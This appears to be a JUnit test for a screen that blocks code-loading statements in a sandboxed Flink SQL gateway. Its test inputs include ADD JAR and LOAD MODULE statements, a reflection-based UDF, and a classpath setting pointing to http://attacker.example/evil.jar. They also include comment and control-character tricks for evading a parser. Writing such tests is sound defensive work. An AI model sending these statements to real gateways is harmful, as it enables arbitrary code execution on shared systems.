package io.lakegate.sandbox.flink;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class StatementScreenTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "ADD JAR '/tmp/evil.jar'",
                "  add jar '/tmp/evil.jar'",
                "/* a comment */ ADD JAR '/tmp/evil.jar'",
                "/*+ a hint's shape */ADD JAR '/tmp/evil.jar'",
                "-- a line comment\nADD JAR '/tmp/evil.jar'",
                // Calcite ends a line comment at a carriage return too.
                "-- a line comment\rADD JAR '/tmp/evil.jar'",
                "// a line comment\nLOAD MODULE hive",
                "REMOVE JAR '/tmp/evil.jar'",
                "LOAD MODULE hive WITH ('hive-version' = '2.3.10')",
                "UNLOAD MODULE core",
                "USE MODULES hive, core",
                "CREATE TEMPORARY FUNCTION f AS 'org.apache.hadoop.hive.ql.udf.generic.GenericUDFReflect'",
                "create temporary system function f as 'x.Y'",
                "CREATE TEMPORARY SYSTEM FUNCTION IF NOT EXISTS f AS 'x.Y' LANGUAGE PYTHON",
                "COMPILE PLAN '/tmp/plan.json' FOR INSERT INTO t SELECT 1",
                "COMPILE AND EXECUTE PLAN '/tmp/plan.json' FOR INSERT INTO t SELECT 1",
                "EXECUTE PLAN '/tmp/plan.json'",
                "SET 'pipeline.jars' = 'file:///tmp/evil.jar'",
                "SET pipeline.classpaths = 'http://attacker.example/evil.jar'",
                "/* c */ set /* c */ 'pipeline.jars' = 'file:///tmp/evil.jar'",
                "/* an unterminated comment ADD JAR '/tmp/evil.jar'",
                "SET 'pipeline.jars",
                // Flink's SET parser trims these; Calcite's parser does not take them as white space.
                "\u0001SET 'pipeline.classpaths' = 'http://attacker.example/evil.jar'",
                "\u000bADD JAR '/tmp/evil.jar'",
                "SELECT 1\u0000",
                "SET 'state.checkpoints.dir' = 'file:///home/someone'",
                "SET 'state.savepoints.dir' = 'file:///home/someone'",
                "SET 'execution.target' = 'remote'",
                "SET 'rest.port' = '8081'",
                "SET 'pipeline.default-kryo-serializers' = 'class:x.Y,serializer:x.Z'",
                "SET 'table.catalog-store.kind' = 'generic_in_memory'",
                // A line comment glued to a keyword: Calcite reads "ADD--" as ADD and a comment.
                "ADD--\nJAR '/tmp/evil.jar'",
                "LOAD--\rMODULE hive",
                "CREATE--\nTEMPORARY FUNCTION f AS 'x.Y'",
                "CREATE/**/TEMPORARY/**/SYSTEM/**/FUNCTION f AS 'x.Y'",
                "EXECUTE--\nPLAN '/tmp/plan.json'",
                "SET--\n'pipeline.jars'='file:///tmp/evil.jar'",
                "SET/**/'pipeline.jars'='file:///tmp/evil.jar'",
                // Calcite joins adjacent literals: an allowed first piece says nothing of the key.
                "SET 'table.exec.a'\n'b' = 'c'",
                "SET N'pipeline.jars' = 'x'",
                "SET pipeline.jars=file:///tmp/evil.jar"
            })
    void refusesCodeIntoTheSharedEngine(String statement) {
        assertThat(StatementScreen.refusal(statement)).as(statement).isPresent();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT 1",
                "SET 'execution.runtime-mode' = 'batch'",
                "SET parallelism.default = 2",
                "SET execution.runtime-mode=batch",
                "SET 'execution.runtime-mode' = 'batch';",
                "SET;",
                "SET 'table.exec.state.ttl' = '1 h'",
                "\tSET\r\n'table.local-time-zone' = 'UTC'",
                "SET",
                "RESET 'pipeline.jars'",
                "CREATE FUNCTION analytics.f AS 'x.Y'",
                "CREATE TEMPORARY TABLE function_calls (a INT) WITH ('connector' = 'datagen')",
                "CREATE TEMPORARY VIEW v AS SELECT 'ADD JAR'",
                "USE CATALOG lake",
                "USE analytics",
                "EXECUTE STATEMENT SET BEGIN INSERT INTO t SELECT 1; END",
                "INSERT INTO t SELECT 'LOAD MODULE hive'",
                "SHOW JARS",
                "SHOW MODULES",
                "ALTER TABLE t SET ('pipeline.jars' = 'x')"
            })
    void leavesTheRestToTheGatewayAndTheGuardedCatalog(String statement) {
        assertThat(StatementScreen.refusal(statement)).as(statement).isEmpty();
    }

    @Test
    void saysWhatItRefusedAndWhy() {
        assertThat(StatementScreen.refusal("LOAD MODULE hive"))
                .hasValueSatisfying(
                        why -> assertThat(why).startsWith("LOAD MODULE: ").contains("reflect"));
        assertThat(StatementScreen.refusal("SET 'pipeline.jars' = 'x'")).hasValueSatisfying(why -> assertThat(why)
                .startsWith("SET 'pipeline.jars': a user may set [")
                .contains("execution.runtime-mode", "table.exec.*"));
    }
}
